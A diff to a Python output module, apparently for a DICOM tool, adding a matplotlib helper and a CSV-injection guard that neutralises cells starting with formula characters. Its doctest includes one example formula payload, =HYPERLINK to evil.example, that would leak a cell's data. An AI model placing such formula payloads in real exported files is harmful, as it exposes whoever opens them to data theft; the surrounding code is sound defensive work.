@@ -1,11 +1,13 @@
-"""What commands print: strict JSON for machines, and text for people that shows every
-name and header value as it is (rich markup never read from data)."""
+"""What commands print and write: strict JSON for machines, text for people that shows every
+name and header value as it is (rich markup never read from data), and CSV cells that a
+spreadsheet opens as text, never as a formula."""
 
 from __future__ import annotations
 
 import json
 import math
-from collections.abc import Mapping
+from collections.abc import Iterable, Mapping
+from typing import Any
 
 from rich.markup import escape
 from rich.table import Table
@@ -25,6 +27,19 @@ def strict_json(data: object) -> str:
     return json.dumps(_finite(data), indent=2, default=str, allow_nan=False)
 
 
+def pyplot() -> Any:
+    """matplotlib's pyplot, drawing to files (no screen), with every text drawn as it is:
+    a ``$`` in a site's name, a class or a folder is never read as mathtext, which would
+    typeset it or fail on it (``Clinic $\\alpha^{$ North``)."""
+    import matplotlib
+
+    matplotlib.use("Agg")
+    matplotlib.rcParams["text.parse_math"] = False
+    import matplotlib.pyplot as plt
+
+    return plt
+
+
 def plain_row(table: Table, *cells: object) -> None:
     """Add a row of plain text: brackets in a header value or a folder name are shown as
     they are, never read as rich markup (which would restyle, hide or crash on them)."""
@@ -41,3 +56,34 @@ def _finite(data: object) -> object:
     if hasattr(data, "item") and callable(data.item):  # a NumPy scalar
         return _finite(data.item())
     return data
+
+
+#: The first characters that make a spreadsheet read a cell as a formula (OWASP's CSV
+#: injection rule): ``=HYPERLINK(...)`` in a DICOM attribute would run when the file opens.
+_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def csv_cell(value: object) -> str:
+    """``value`` as a CSV cell a spreadsheet shows as text: a cell beginning with ``=``,
+    ``+``, ``-``, ``@``, a tab or a carriage return gets a leading apostrophe (OWASP's
+    rule), unless it is a plain number, which no spreadsheet runs.
+
+    Example:
+        >>> csv_cell('=HYPERLINK("http://evil.example/?d="&A1,"click")')[:12]
+        "'=HYPERLINK("
+        >>> csv_cell(-0.25), csv_cell("GE MEDICAL SYSTEMS"), csv_cell(None)
+        ('-0.25', 'GE MEDICAL SYSTEMS', '')
+    """
+    text = "" if value is None else str(value)
+    if not text.startswith(_FORMULA_STARTS):
+        return text
+    try:
+        float(text)
+    except ValueError:
+        return "'" + text
+    return text
+
+
+def csv_row(values: Iterable[object]) -> list[str]:
+    """Every cell of a row through :func:`csv_cell`."""
+    return [csv_cell(value) for value in values]
